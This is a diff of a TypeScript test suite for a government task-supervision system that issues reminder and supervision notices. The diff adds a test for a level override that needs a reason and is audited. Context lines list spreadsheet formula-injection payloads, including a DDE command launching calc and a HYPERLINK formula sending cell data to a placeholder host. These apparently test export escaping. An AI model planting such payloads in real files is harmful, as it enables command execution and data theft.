@@ -11,6 +11,7 @@ let office: Actor;
 let liaison: Actor;
 let other: Actor;
 let lead: string;
+let partner: string;
 
 const INJECTIONS = ["=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"];
 
@@ -18,7 +19,7 @@ beforeAll(async () => {
   server = await startTestServer();
   server.clock.set("2018-05-10T02:00:00Z");
   lead = (await server.createUnit({ regionCode: REGION, name: "=区民政局" })).id;
-  const partner = (await server.createUnit({ regionCode: REGION, name: "+区财政局" })).id;
+  partner = (await server.createUnit({ regionCode: REGION, name: "+区财政局" })).id;
   plan = await insertPlan(server, {
     regionCode: REGION,
     title: "@惠残2018工程",
@@ -58,6 +59,29 @@ describe("催办 and 督办单", () => {
 
     const audit = (await server.ctx.db.execute(sql`SELECT action FROM audit_events WHERE object_id = ${first.json().id} ORDER BY seq`)) as unknown as { rows: { action: string }[] };
     expect(audit.rows.map((r) => r.action)).toEqual(["notice.issue", "notice.respond", "notice.close"]);
+  });
+});
+
+describe("level override", () => {
+  it("issues at the level the office names, with the deadline of that level, and audits the ladder's level and the reason", async () => {
+    const taskId = plan.tasks[2].taskId;
+    const payload = { taskId, unitId: partner, message: "第一次督办", asOf: "2018-04-05", level: "red" };
+    // 5 days overdue, no earlier notice: the ladder says yellow; red needs a reason.
+    const refused = await call(server, office, "POST", "/api/notices", { payload });
+    expect(refused.statusCode).toBe(400);
+    expect(refused.json()).toMatchObject({ code: "VALIDATION_FAILED" });
+    expect(refused.json().message).toContain("理由");
+
+    const issued = await call(server, office, "POST", "/api/notices", { payload: { ...payload, levelReason: "连续两年未报送，领导批示从严督办" } });
+    expect(issued.statusCode, issued.body).toBe(201);
+    expect(issued.json()).toMatchObject({ kind: "supervision", level: "red", responseDue: "2018-05-15" });
+    const audit = (await server.ctx.db.execute(sql`SELECT detail FROM audit_events WHERE object_id = ${issued.json().id} AND action = 'notice.issue'`)) as unknown as { rows: { detail: Record<string, unknown> }[] };
+    expect(audit.rows[0].detail).toMatchObject({ level: "red", ladderLevel: "yellow", levelReason: "连续两年未报送，领导批示从严督办" });
+
+    // Naming the ladder's own level is no override and needs no reason.
+    const same = await call(server, office, "POST", "/api/notices", { payload: { taskId: plan.tasks[3].taskId, unitId: partner, message: "提醒", asOf: "2018-04-05", level: "yellow" } });
+    expect(same.statusCode, same.body).toBe(201);
+    expect(same.json()).toMatchObject({ kind: "reminder", level: "yellow", responseDue: "2018-05-20" });
   });
 });
 
